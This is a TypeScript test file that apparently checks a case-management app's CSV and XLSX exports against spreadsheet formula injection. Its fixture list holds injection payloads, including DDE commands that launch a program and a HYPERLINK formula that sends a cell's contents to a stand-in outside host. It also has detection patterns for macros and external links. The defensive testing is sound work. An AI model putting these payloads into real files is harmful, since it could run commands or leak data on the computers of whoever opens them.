import { randomBytes } from 'node:crypto';
import { inflateRawSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import readXlsxFile from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { demoExecutiveId, demoOfficerId } from '../../domain/agency/khoen-staff.ts';
import { ListName } from '../../domain/documents/names.ts';
import { tablesOf } from '../../domain/evidence/content.ts';
import { harmless } from '../../domain/evidence/harmless.ts';
import { EvidenceKey } from '../../domain/evidence/keys.ts';
import { Entered } from '../../domain/staff/cases.ts';
import { DocumentAnswer } from '../../domain/staff/documents.ts';
import { does } from '../staff/cases/world.ts';
import { openStaffStage, type StaffStage } from '../staff/stage.ts';

/** Words that some spreadsheet reckons: formulas, commands, links, in ASCII and full width, after blanks that it skips. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://elsewhere.example?"&A1,"กดที่นี่")',
  "=cmd|'/c calc'!A0",
  '+cmd|calc',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\u3000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '|calc',
  '%0A=1',
  '=DDE("cmd";"/c calc";"x")',
  '"=1+1"',
  ';=1+1',
];
/** What is never to stand first in a cell of words. */
const RECKONED = /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠|%]/u;

let stage: StaffStage;
beforeAll(async () => {
  stage = await openStaffStage();
  const path = stage.ground.paths.agency;
  const { agency } = stage.parts.current();
  const relabelled = <T extends { label: string }>(list: readonly T[], from: number): T[] =>
    list.map((one, at) => ({ ...one, label: FORMULAS[(at + from) % FORMULAS.length] ?? one.label }));
  await stage.documents.commit([
    {
      op: 'update',
      path,
      data: JSON.parse(
        JSON.stringify({
          categories: relabelled(agency.categories, 0),
          units: relabelled(agency.units, 5),
        }),
      ),
    },
  ]);
  const executive = await stage.addStaff(FORMULAS[0] ?? '', ['executive'], { position: FORMULAS[5] });
  expect(executive.name).toBe('=1+1');
  for (const [at, to] of FORMULAS.entries()) {
    const category = agency.categories[at % agency.categories.length]?.id;
    const body = {
      once: randomBytes(24).toString('base64url'),
      ...{ kind: 'complaint', channel: 'phone', received: '2026-11-20', place: 'moo-4', text: to, category },
    };
    const { id } = Entered.parse((await stage.call(demoOfficerId, 'POST', '/cases', body)).json);
    await does(stage, demoOfficerId, id, 'refer', { to: `${to} `, contact: to });
  }
});
afterAll(() => stage.close());

const get = async (path: string) => {
  const reply = await stage.call(demoExecutiveId, 'GET', path);
  expect([path, reply.status]).toEqual([path, 200]);
  return Buffer.from(reply.octets);
};

function csvCells(octets: Buffer): string[] {
  return parse(octets, { bom: true, relax_column_count: true }).flat().map(String);
}
async function xlsxCells(octets: Buffer): Promise<string[]> {
  const sheets = await readXlsxFile(octets);
  const cells = sheets.flatMap(({ data }) => data.flat());
  return cells.flatMap((cell) => (typeof cell === 'string' ? [cell] : []));
}
/** The files in a workbook, by name: each packed part of the archive begins with a local header. */
function partsOf(octets: Buffer): [name: string, content: string][] {
  const parts: [string, string][] = [];
  for (let at = octets.indexOf('PK\u0003\u0004'); at >= 0; at = octets.indexOf('PK\u0003\u0004', at + 4)) {
    const [name, extra] = [octets.readUInt16LE(at + 26), octets.readUInt16LE(at + 28)];
    const content = octets.subarray(at + 30 + name + extra);
    const isPacked = octets.readUInt16LE(at + 8) === 8;
    parts.push([
      octets.toString('utf8', at + 30, at + 30 + name),
      (isPacked ? inflateRawSync(content) : content).toString(),
    ]);
  }
  return parts;
}

/** What of a workbook would be reckoned, fetched or run. */
function active(octets: Buffer): string[] {
  const parts = partsOf(octets);
  expect(parts.map(([name]) => name)).toContain('xl/workbook.xml');
  return parts.flatMap(([name, content]) =>
    /externalLink|vbaProject|macro|activeX/i.test(name) ||
    /<f[ >]|<hyperlink|<dde|TargetMode="External"/i.test(content)
      ? [name]
      : [],
  );
}

async function everyFile(): Promise<{ path: string; octets: Buffer }[]> {
  const query = 'year=2570&preset=whole-year&digits=arabic';
  const paths: string[] = [];
  for (const key of EvidenceKey.options) {
    const { content } = DocumentAnswer.parse(
      JSON.parse((await get(`/documents/${key}?${query}`)).toString()),
    );
    paths.push(`/documents/${key}/file?${query}&format=xlsx`);
    for (const { id } of tablesOf(content))
      paths.push(`/documents/${key}/file?${query}&format=csv&table=${id}`);
  }
  for (const what of ListName.options) {
    for (const format of ['csv', 'xlsx']) paths.push(`/register/file?${query}&what=${what}&format=${format}`);
  }
  for (const as of ['csv', 'xlsx']) paths.push(`/submission/2566/file?as=${as}`);
  return Promise.all(paths.map(async (path) => ({ path, octets: await get(path) })));
}

describe('files for spreadsheets', () => {
  it('hold words that begin like a formula as words, and nothing else that runs', async () => {
    const files = await everyFile();
    expect(files.length).toBeGreaterThan(25);
    let quoted = 0;
    for (const { path, octets } of files) {
      const isBook = path.includes('xlsx');
      const cells = isBook ? await xlsxCells(octets) : csvCells(octets);
      expect([
        path,
        cells.filter((cell) => RECKONED.test(cell) && !/^-?[\d.,]+%?$/.test(cell) && cell !== '-'),
      ]).toEqual([path, []]);
      quoted += cells.filter((cell) => cell.startsWith("'") && RECKONED.test(cell.slice(1))).length;
      if (isBook) expect([path, active(octets)]).toEqual([path, []]);
    }
    expect(quoted).toBeGreaterThan(20);
  });

  it('keep every such word, whatever stands before it', () => {
    for (const words of FORMULAS) {
      const kept = harmless(words);
      expect(kept.endsWith(words)).toBe(true);
      expect(RECKONED.test(kept)).toBe(false);
    }
    const sign = fc.constantFrom('=', '+', '-', '@', '＝', '＋', '－', '＠', '|', '%');
    const blank = fc.constantFrom('', ' ', '\t', '\u00a0', '\u200b', '\ufeff', '\u0000');
    fc.assert(
      fc.property(blank, sign, fc.string({ unit: 'grapheme' }), (before, first, rest) => {
        const kept = harmless(`${before}${first}${rest}`);
        return kept === `'${before}${first}${rest}` && !RECKONED.test(kept);
      }),
    );
  });
});
